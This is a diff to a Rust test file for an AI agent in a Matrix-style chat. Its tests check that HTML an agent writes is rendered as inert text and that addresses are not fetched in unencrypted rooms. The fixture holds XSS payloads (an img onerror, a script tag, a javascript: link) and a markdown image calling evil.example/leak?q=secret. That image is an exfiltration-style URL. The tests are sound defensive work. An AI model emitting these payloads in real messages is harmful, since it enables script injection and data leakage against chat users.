@@ -75,30 +75,45 @@ fn latest(person: &Person, room: &Room, post: &Post) -> Value {
     }
 }
 
-/// X2: what an agent writes can neither run nor load anything in a client.
-#[tokio::test]
-async fn html_of_an_agent_is_text() {
-    let evil = "**Hi** <img src=https://evil.example/x onerror=alert(1)> <script>1</script> \
-                ![cat](https://evil.example/leak?q=secret) [bank](javascript:alert(1)) @room";
-    let world = World::builder().model(says("be evil", evil)).start().await;
+const EVIL: &str = "**Hi** <img src=https://evil.example/x onerror=alert(1)> <script>1</script> \
+                    ![cat](https://evil.example/leak?q=secret) [bank](javascript:alert(1)) @room";
+
+/// What became of it in C1, where it is seen as this text.
+async fn evil_answer(world: &World, shown: &str) -> Value {
     let (ann, c1) = world.met("ann").await;
     let post = ann.ask(&c1, "be evil", "**Hi**").await;
-    // Not encrypted: an address that a client could find would be fetched by the homeserver (E69).
-    let shown = evil.replace("://", "[:]//");
     eventually("the whole of it", || async {
         latest(&ann, &c1, &post)["body"].as_str().filter(|body| *body == shown).map(|_| ())
     })
     .await;
-    let content = latest(&ann, &c1, &post);
+    latest(&ann, &c1, &post)
+}
+
+/// X2: what an agent writes can neither run nor load anything in a client.
+#[tokio::test]
+async fn html_of_an_agent_is_text() {
+    let world = World::builder().model(says("be evil", EVIL)).start().await;
+    let content = evil_answer(&world, EVIL).await;
     assert_eq!(content["msgtype"], "m.text");
     assert_eq!(content["m.mentions"], json!({}), "nobody is rung");
     let html = content["formatted_body"].as_str().unwrap();
     assert!(html.contains("<strong>Hi</strong>") && html.contains("&lt;script&gt;"), "{html}");
     assert!(!html.contains("<img") && !html.contains("<script"), "{html}");
     assert!(!html.contains("javascript:"), "{html}");
+    let link = "<a href=\"https://evil.example/leak?q=secret\">Image: cat</a> (evil.example)";
+    assert!(html.contains(link), "{html}");
+}
+
+/// E69: where it is not encrypted, clients have the homeserver fetch the addresses that they find, which is not in code.
+#[tokio::test]
+async fn in_the_clear_no_address_is_fetched() {
+    let world = World::builder().plain_rooms().model(says("be evil", EVIL)).start().await;
+    let content = evil_answer(&world, &EVIL.replace("://", "[:]//")).await;
+    let html = content["formatted_body"].as_str().unwrap();
     let link = "<code><a href=\"https://evil.example/leak?q=secret\">Image: cat</a></code> \
                 <code>(evil.example)</code>";
     assert!(html.contains(link), "{html}");
+    assert!(html.contains("<code>src=https://evil.example/x</code>"), "{html}");
 }
 
 /// X2: what is asked in a thread is answered in it.
